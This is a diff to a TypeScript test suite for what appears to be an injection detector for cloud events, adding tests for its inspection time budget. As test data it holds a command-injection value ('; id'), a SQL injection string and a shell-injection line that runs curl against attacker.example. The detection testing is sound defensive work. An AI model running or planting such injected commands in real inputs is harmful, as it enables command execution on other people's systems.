@@ -1,8 +1,9 @@
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { test } from 'node:test';
+import { describe, test } from 'node:test';
 import { inspectEvent } from './inspect.ts';
+import { inspectionBudget } from './options.ts';
 import { readEvent } from './reader.ts';
 
 const events = join(import.meta.dirname, '../../../fixtures/events');
@@ -43,7 +44,7 @@ test('a detection says where, what and how sure', () => {
     confidence: 'high',
   });
 });
-test('a doubt alone is suspicious', () => assert.equal(inspectEvent({ v: '/etc/passwd' }).level, 'suspicious'));
+test('a doubt alone is suspicious', () => assert.equal(inspectEvent({ v: '12345678; id' }).level, 'suspicious'));
 test('quotes and commas of JSON are no attack', () => assert.equal(inspectEvent({ body: '{"a":"b","c":["d;","e"]}' }).level, 'none'));
 test('what the platform stamped is not inspected, what was forged in its place is', () => {
   const eventWith = (name: string) => ({ Records: [{ eventSource: 'aws:s3', s3: { bucket: { name }, object: { key: 'a.pdf' } } }] });
@@ -69,3 +70,32 @@ test('an event full of attacks is reported by its first ones, and by those that 
   );
 });
 test('a few detections are all there are', () => assert.ok(!('more' in inspectEvent({ a: "' or 1=1 --" }))));
+
+describe('time', () => {
+  const minute = 60_000;
+  test('is a share of what the invocation has left, at most 20 ms, and never nothing', () => {
+    assert.deepEqual(inspectionBudget({ remainingMs: 200 }), { time: 10 });
+    assert.deepEqual(inspectionBudget({ remainingMs: 15 * minute }), { time: 20 });
+    assert.deepEqual(inspectionBudget({ remainingMs: 1000, share: 0.01, most: 5 }), { time: 5 });
+    for (const remainingMs of [0, -5, Number.NaN]) assert.ok(inspectionBudget({ remainingMs }).time > 0);
+  });
+  test('counts reading and inspecting together, and is not looked at for a small event', () => {
+    let looks = 0;
+    const now = () => looks++;
+    inspectEvent({ body: JSON.stringify({ text: "it's a text & more; ".repeat(50) }) }, { limits: { time: 5 }, now });
+    assert.equal(looks, 0);
+  });
+  test('ends a large text at what there is time for, with its beginning looked at', () => {
+    const attack = '; curl http://attacker.example/ ';
+    const stopped = inspectEvent({ v: attack + 'x y '.repeat(1_000_000) }, { limits: { time: 20 }, now: () => 7 });
+    assert.deepEqual([stopped.incomplete, stopped.level !== 'none'], ['time', true]);
+    const late = inspectEvent({ v: 'x y '.repeat(1_000_000) + attack }, { limits: { time: 20 }, now: () => 7 });
+    assert.deepEqual([late.incomplete, late.level], ['time', 'none']);
+  });
+  test('ends many values', () => {
+    let clock = 0;
+    const event = Array.from({ length: 100_000 }, (_, i) => `v ${i};`);
+    assert.equal(inspectEvent(event, { limits: { time: 20 }, now: () => clock++ }).incomplete, 'time');
+    assert.equal(inspectEvent(event).incomplete, undefined);
+  });
+});
